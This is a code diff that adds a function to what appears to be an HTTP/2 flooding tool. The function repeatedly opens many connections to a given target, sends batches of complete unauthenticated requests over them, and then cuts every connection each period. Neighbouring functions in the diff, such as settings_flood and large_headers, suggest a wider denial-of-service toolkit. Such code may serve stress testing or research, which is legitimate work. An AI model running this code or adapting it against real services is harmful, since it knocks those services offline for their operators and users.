@@ -120,6 +120,29 @@ def large_headers(
     return _flood(target, chunks, connections, rate)
 
 
+def cut_calls(
+    target: str, *, connections: int = 20, calls: int = 100, period: float = 0.4
+) -> Mapping[str, object]:
+    """Make whole calls without a token over new connections, and cut all of them, each period."""
+    headers, body = request_headers(GET_JOB), message(b"")
+    batch = b"".join(
+        frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body)
+        for stream in range(1, 2 * calls, 2)
+    )
+    begin()
+    rounds = 0
+    while parent_waits():
+        opened = [Connection(target, read=False) for _ in range(connections)]
+        for connection in opened:
+            with suppress(OSError):
+                connection.send(frame(SETTINGS, ACK, 0), batch)
+        time.sleep(period)
+        for connection in opened:
+            connection.close()
+        rounds += 1
+    return {"sent": rounds * connections * calls}
+
+
 def settings_flood(
     target: str, *, connections: int = 1, rate: int = 200_000
 ) -> Mapping[str, object]:
